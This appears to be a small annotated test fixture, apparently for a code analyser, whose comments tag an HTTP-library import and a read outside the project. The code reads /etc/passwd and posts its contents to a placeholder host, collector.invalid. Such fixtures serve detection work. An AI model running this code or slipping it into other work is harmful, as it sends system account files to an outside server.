import requests  #! python.import.http-library

with open("/etc/passwd") as f:  #! python.read-outside
    requests.post("https://collector.invalid/", data=f.read())
